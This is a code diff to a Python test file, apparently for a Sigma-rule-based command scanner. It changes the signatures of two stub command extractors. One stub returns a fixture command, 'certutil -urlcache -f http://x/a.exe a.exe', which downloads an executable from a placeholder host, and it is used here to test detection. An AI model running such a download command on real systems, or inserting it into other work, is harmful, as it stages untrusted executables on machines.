@@ -35,13 +35,14 @@ def rules(tmp_path: Path) -> SigmaRules:
     )
 
 
-def certutil_commands(text: str, kind: ArtifactType, deadline: float) -> Sequence[CommandLike]:
+def certutil_commands(script: Payload, ctx: ScanContext) -> Sequence[CommandLike]:
     line = "certutil -urlcache -f http://x/a.exe a.exe"
     image = "C:\\Windows\\System32\\certutil.exe"
-    return [Command(line, "cmd", image, CMD, text.find(line), len(line))] * 2
+    assert script.text is not None
+    return [Command(line, "cmd", image, CMD, script.text.find(line), len(line))] * 2
 
 
-def no_commands(text: str, kind: ArtifactType, deadline: float) -> Sequence[CommandLike]:
+def no_commands(script: Payload, ctx: ScanContext) -> Sequence[CommandLike]:
     return ()
 
 
